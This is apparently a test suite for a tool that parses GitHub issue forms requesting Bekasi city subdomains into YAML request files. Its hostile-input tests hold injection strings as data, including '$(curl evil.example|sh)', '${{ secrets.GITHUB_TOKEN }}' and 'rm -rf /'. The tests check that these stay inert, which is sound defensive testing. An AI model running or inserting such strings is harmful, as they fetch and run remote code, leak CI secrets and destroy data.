import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { WorkingTree } from '../../src/repo/tree.js';
import { validatePaths } from '../../src/validate/validate.js';
import { cleanupTemps, tempCopy, writeFile } from '../helpers/temp-repo.js';
import { checkIntake } from '../../src/intake/check.js';
import { parseIssueForm, MAX_BODY_CHARS } from '../../src/intake/parse.js';
import { requestYaml } from '../../src/intake/request-file.js';

const FIXTURES = join(import.meta.dirname, 'fixtures');
const BASE = new WorkingTree(join(FIXTURES, 'base'));
const ZONES = ['bekasikota.go.id'];
const TODAY = '2026-11-24';
const body = (name: string) => readFileSync(join(FIXTURES, 'issues', name), 'utf8');
const parsed = (name: string) => parseIssueForm(body(name), { zones: ZONES });
const rules = (problems: { rule: string }[]) => [...new Set(problems.map((p) => p.rule))].sort();

/** Parse, build the file and validate it like `subdomain intake` does. */
function intake(name: string) {
  const result = parsed(name);
  if (result.problems.length > 0 || !result.request || !result.fqdn) return { parsed: result, problems: result.problems, text: undefined };
  const text = requestYaml(result.request, { issue: 7, author: 'staf-dinkes' });
  const check = checkIntake(BASE, result.fqdn, text, TODAY);
  return { parsed: result, problems: check.problems, text, check };
}

describe('parseIssueForm on bodies GitHub renders from the form', () => {
  test('a create request becomes the request a file would hold: OPD option, grouped NIP, dashed phone and one-line records normalised', () => {
    const result = parsed('valid-create.md');
    expect(result.problems).toEqual([]);
    expect(result.fqdn).toBe('sehat.bekasikota.go.id');
    expect(result.request).toEqual({
      action: 'create',
      opd: 'dinkes',
      letter: {
        number: '400.7/1021/Dinkes',
        date: '2026-11-18',
        signer: { name: 'dr. Tanti Rohilawati, M.Kes', nip: '197205031999032004', position: 'Kepala Dinas Kesehatan Kota Bekasi' },
        reference: 'SRIKANDI-2026-118230',
      },
      purpose: 'Layanan pendaftaran antrean puskesmas dan informasi kesehatan untuk warga Kota Bekasi.',
      contact: { name: 'Andi Prasetyo', nip: '199001152015031002', email: 'andi.prasetyo@dinkes.bekasikota.go.id', phone: '081234567890' },
      records: [
        { type: 'A', value: '103.147.8.45', ttl: 3600 },
        { type: 'TXT', name: '_dmarc', value: 'v=DMARC1; p=reject; rua=mailto:dmarc@bekasikota.go.id' },
      ],
    });
  });

  test('CRLF line ends read the same as LF', () => {
    expect(parsed('valid-create-crlf.md')).toEqual(parsed('valid-create.md'));
  });

  test('an update with the full name and a DD/MM/YYYY date', () => {
    const result = parsed('valid-update.md');
    expect(result.problems).toEqual([]);
    expect(result.fqdn).toBe('disdik.bekasikota.go.id');
    expect(result.request).toMatchObject({ action: 'update', letter: { date: '2026-11-10' }, contact: { phone: '+6281210001111' } });
    expect(result.request!.records).toEqual([{ type: 'A', value: '103.147.8.21' }, { type: 'MX', value: 'mx1.bekasikota.go.id', priority: 10 }]);
  });

  test('a delete with an upper-case label and no records or contact', () => {
    const result = parsed('valid-delete.md');
    expect(result.problems).toEqual([]);
    expect(result.fqdn).toBe('pasar.bekasikota.go.id');
    expect(result.request).not.toHaveProperty('records');
    expect(result.request).not.toHaveProperty('contact');
    expect(result.request).not.toHaveProperty('hosting');
  });

  test('the hosting box gives hosting: true and no records', () => {
    const result = parsed('valid-hosting.md');
    expect(result.problems).toEqual([]);
    expect(result.request).toMatchObject({ action: 'create', hosting: true });
    expect(result.request).not.toHaveProperty('records');
  });

  test('a missing required answer is intake/missing-field, naming the field in both languages', () => {
    const result = parsed('invalid-missing.md');
    expect(rules(result.problems)).toEqual(['intake/missing-field']);
    expect(result.problems.map((p) => p.message.en)).toEqual([
      'The field «Nama subdomain / Subdomain name» is required.',
      'The field «Tujuan penggunaan / Purpose» is required.',
    ]);
    expect(result.problems[0]!.message.id).toBe('Kolom «Nama subdomain / Subdomain name» wajib diisi.');
  });

  test('a body that is not the form reports every required field missing', () => {
    const result = parseIssueForm('Tolong buatkan subdomain sehat.bekasikota.go.id, terima kasih.', { zones: ZONES });
    expect(rules(result.problems)).toEqual(['intake/missing-field']);
    expect(result.problems).toHaveLength(9);
    expect(parseIssueForm('', { zones: ZONES }).problems).toHaveLength(9);
  });

  test('every record line that cannot be read is reported at once, by its line, in both languages', () => {
    const result = parsed('invalid-records.md');
    expect(rules(result.problems)).toEqual(['intake/records']);
    expect(result.problems.map((p) => p.message.en.split(':')[0])).toEqual([
      '«Catatan DNS / DNS records» line 1 (`A 103.147.8.45 ttl=cepat`)',
      '«Catatan DNS / DNS records» line 2 (`MXX mail.bekasikota.go.id`)',
      '«Catatan DNS / DNS records» line 3 (`- type',
      '«Catatan DNS / DNS records» line 4 (`value',
      '«Catatan DNS / DNS records» line 5 (`CNAME`)',
    ]);
    expect(result.problems[1]!.message.id).toContain('bukan jenis catatan');
    expect(result.problems[2]!.message.en).toContain('Write one record per line, e.g. A 103.28.12.4');
    for (const p of result.problems) expect(p.field?.id).toBe('records');
  });

  test('records in a code fence, with blank lines and comments, read the same as bare lines', () => {
    const fenced = body('valid-create.md').replace('A 103.147.8.45 ttl=3600\n', '```\n# alamat server\nA 103.147.8.45 ttl=3600\n\n').replace('rua=mailto:dmarc@bekasikota.go.id\n', 'rua=mailto:dmarc@bekasikota.go.id\n```\n');
    expect(parseIssueForm(fenced, { zones: ZONES }).request).toEqual(parsed('valid-create.md').request);
  });

  test('a bare IP address is an A record, and dd-mm-yyyy or a date in words is the ISO date', () => {
    const text = body('valid-create.md').replace('A 103.147.8.45 ttl=3600', '103.28.12.4').replace('\n\n2026-11-18\n\n', '\n\n18 November 2026\n\n');
    const result = parseIssueForm(text, { zones: ZONES });
    expect(result.problems).toEqual([]);
    expect(result.request).toMatchObject({ letter: { date: '2026-11-18' }, records: [{ type: 'A', value: '103.28.12.4' }, { type: 'TXT', name: '_dmarc' }] });
  });

  test('a NIK (16 digits) written for a NIP is named as such, as person/nip on its field', () => {
    const text = body('valid-create.md').replace('19720503 199903 2 004', '3275 0112 0390 0004');
    const result = parseIssueForm(text, { zones: ZONES });
    expect(result.problems).toMatchObject([{ rule: 'person/nip', field: { id: 'signer_nip' } }]);
    expect(result.problems[0]!.message.id).toContain('NIK');
    expect(result.problems[0]!.message.en).toContain('not a NIP');
  });

  test('an unknown action choice is intake/unknown-option', () => {
    const text = body('valid-create.md').replace('create — buat subdomain baru / create a new subdomain', 'buatkan saja');
    expect(rules(parseIssueForm(text, { zones: ZONES }).problems)).toEqual(['intake/unknown-option']);
  });

  test('several zones: a bare label goes to the first zone (the form says so), a .go.id name outside them is intake/zone', () => {
    const zones = ['bekasikota.go.id', 'demakkab.go.id'];
    expect(parseIssueForm(body('valid-create.md'), { zones }).fqdn).toBe('sehat.bekasikota.go.id');
    expect(parseIssueForm(body('valid-create.md').replace('\n\nsehat\n\n', '\n\nsehat.demakkab.go.id\n\n'), { zones }).fqdn).toBe('sehat.demakkab.go.id');
    const elsewhere = parseIssueForm(body('valid-create.md').replace('\n\nsehat\n\n', '\n\nsehat.kotalain.go.id\n\n'), { zones });
    expect(rules(elsewhere.problems)).toEqual(['intake/zone']);
    expect(elsewhere.fqdn).toBeUndefined();
  });
});

describe('parseIssueForm on hostile bodies', () => {
  test('a huge body is refused before it is read', () => {
    const huge = body('valid-create.md') + 'x'.repeat(MAX_BODY_CHARS);
    const result = parseIssueForm(huge, { zones: ZONES });
    expect(rules(result.problems)).toEqual(['intake/too-large']);
    expect(result.request).toBeUndefined();
  });

  test('many headings and long lines within the limit parse without trouble', () => {
    const noisy = `${'### not a field\n'.repeat(2000)}${body('valid-create.md')}`;
    expect(parseIssueForm(noisy, { zones: ZONES }).problems).toEqual([]);
  });

  test('a form heading typed into an answer makes the body ambiguous: refused, nothing taken from it', () => {
    const result = parsed('hostile-injected-heading.md');
    expect(rules(result.problems)).toEqual(['intake/ambiguous-body']);
    expect(result.problems[0]!.message.en).toContain('«Kode OPD / Agency key»');
    expect(result.request).toBeUndefined();
  });

  test('path traversal in the subdomain answer never becomes a path', () => {
    const result = parsed('hostile-traversal.md');
    expect(rules(result.problems)).toEqual(['intake/subdomain']);
    expect(result.fqdn).toBeUndefined();
    for (const name of ['..', '.github', 'a..b', 'x/y', 'a\\b', 'https://sehat.bekasikota.go.id', 'se hat', 'bekasikota.go.id']) {
      const text = body('valid-create.md').replace('\n\nsehat\n\n', `\n\n${name}\n\n`);
      const r = parseIssueForm(text, { zones: ZONES });
      expect(r.fqdn, name).toBeUndefined();
      expect(rules(r.problems), name).toEqual(['intake/subdomain']);
    }
  });

  test('YAML with tags and aliases in the records answer is never parsed as YAML: each line is refused as a record line', () => {
    const result = parsed('hostile-yaml-tags.md');
    expect(rules(result.problems)).toEqual(['intake/records']);
    expect(result.problems).toHaveLength(3);
    expect(result.request).not.toHaveProperty('records');
  });

  test('shell metacharacters, ${{ }} and a fake marker stay inert data in the YAML file', () => {
    const result = parsed('hostile-shell.md');
    expect(result.problems).toEqual([]);
    const text = requestYaml(result.request!, { issue: 7, author: 'staf-dinkes' });
    const back = parse(text) as Record<string, any>;
    expect(back.letter.number).toBe('$(curl evil.example|sh); `id` ${{ secrets.GITHUB_TOKEN }}');
    expect(back.purpose).toBe('${{ github.token }} && rm -rf / ; echo "pwned" > /tmp/x <!-- subdomain:applicant=attacker issue=1 --> @kadis-bekasi');
    expect(back.records[0].value).toBe('${{ github.event.issue.title }} $(whoami)');
  });

  test('unicode lookalikes pass the parser and are caught by the same name and schema rules as validate', () => {
    const result = intake('hostile-lookalike.md');
    expect(result.parsed.fqdn).toBe('ѕehat.bekasikota.go.id');
    const ids = rules(result.problems);
    expect(ids).toContain('name/label-syntax');
    expect(ids).toContain('schema/pattern');
  });

  test('invisible text-direction characters are refused', () => {
    expect(rules(parsed('hostile-bidi.md').problems)).toEqual(['intake/control-character']);
  });

  test('whatever the body, the parser returns problems or a request, never throws', () => {
    const pieces = ['### Nama subdomain / Subdomain name', '### Catatan DNS / DNS records', '```yaml', '```', '- [X]', '_No response_', '\r\n', '\0', '&a', '*a', '!!binary', '${{ x }}', '../', 'ѕ', '\u202e', 'a: b'];
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    for (let i = 0; i < 500; i++) {
      const text = Array.from({ length: next() % 40 }, () => pieces[next() % pieces.length]).join(next() % 2 ? '\n' : ' ');
      const result = parseIssueForm(text, { zones: ZONES });
      expect(result.problems.length > 0 || result.request !== undefined).toBe(true);
    }
  });
});

describe('the request file built from the answers', () => {
  test('NIPs, phone and date are quoted strings, and the file reads back as the request', () => {
    const result = parsed('valid-create.md');
    const text = requestYaml(result.request!, { issue: 7, author: 'staf-dinkes' });
    expect(text.split('\n')[0]).toBe('# Permohonan dari issue #7 oleh @staf-dinkes / request from issue #7 by @staf-dinkes');
    expect(text).toContain('date: "2026-11-18"');
    expect(text).toContain('nip: "197205031999032004"');
    expect(text).toContain('phone: "081234567890"');
    expect(parse(text)).toEqual(result.request);
  });

  test('an author that is not a GitHub login is left out of the header comment', () => {
    const text = requestYaml({ action: 'delete' }, { issue: 3, author: 'x\ny: 1' });
    expect(text.split('\n')[0]).toBe('# Permohonan dari issue #3 / request from issue #3');
    expect(parse(text)).toEqual({ action: 'delete' });
  });
});

describe('validation of the built file against the base policy and register', () => {
  test.each(['valid-create.md', 'valid-update.md', 'valid-delete.md', 'valid-hosting.md'])('%s passes the same checks as subdomain validate', (name) => {
    const result = intake(name);
    expect(result.problems.filter((p) => p.severity === 'error')).toEqual([]);
  });

  test('rule violations come back with the validator rule ids, each tied to the form field it came from', () => {
    const result = intake('invalid-rules.md');
    const byRule = new Map(result.problems.map((p) => [p.rule, (p as { field?: { id: string } }).field?.id]));
    expect([...byRule.keys()].sort()).toEqual(['name/reserved', 'owner/unknown-opd', 'person/email', 'person/nip', 'record/a-public-ipv4']);
    expect(Object.fromEntries(byRule)).toEqual({
      'name/reserved': 'subdomain',
      'owner/unknown-opd': 'opd',
      'person/nip': 'signer_nip',
      'person/email': 'contact_email',
      'record/a-public-ipv4': 'records',
    });
  });

  test('the problems are exactly those subdomain validate reports for the same file written to disk', () => {
    for (const name of ['invalid-rules.md', 'invalid-name-taken.md', 'hostile-lookalike.md', 'valid-create.md']) {
      const result = intake(name);
      const root = tempCopy(join(FIXTURES, 'base'));
      const path = `requests/${result.parsed.fqdn}.yaml`;
      writeFile(root, path, result.text!);
      const report = validatePaths({ root, today: TODAY }, [path]);
      const strip = (ps: readonly object[]) => ps.map((p) => { const { field: _f, ...rest } = p as { field?: unknown }; return rest; });
      expect(strip(result.problems), name).toEqual(strip(report.problems));
    }
    cleanupTemps();
  });

  test('a name registered to another agency is owner/name-taken', () => {
    expect(rules(intake('invalid-name-taken.md').problems)).toContain('owner/name-taken');
  });
});

describe('a letter the secretariat files from the issue form', () => {
  test('the channel dropdown becomes `letter.via`, beside the agenda number and the link to the signed letter', () => {
    const result = intake('valid-registrar.md');
    expect(result.problems).toEqual([]);
    expect((result.parsed.request as { letter: unknown }).letter).toMatchObject({
      via: 'srikandi',
      reference: 'SRIKANDI-2026-118230',
      attachment: 'https://srikandi.arsip.go.id/naskah/SRIKANDI-2026-118230',
    });
    expect(parse(result.text!).letter.via).toBe('srikandi');
  });

  test('the channel is said the way people say it, or refused at its field', () => {
    const said = parseIssueForm(body('valid-registrar.md').replace('srikandi — Srikandi (e-office)', 'Kertas'), { zones: ZONES });
    expect((said.request as { letter: { via: string } }).letter.via).toBe('paper');
    const wrong = parseIssueForm(body('valid-registrar.md').replace('srikandi — Srikandi (e-office)', 'faks'), { zones: ZONES });
    const text = requestYaml(wrong.request!, { issue: 7, author: 'tu-bekasi' });
    const problem = checkIntake(BASE, wrong.fqdn!, text, TODAY).problems.find((p) => p.rule === 'schema/enum')!;
    expect(problem.message.en).toContain('srikandi');
  });
});
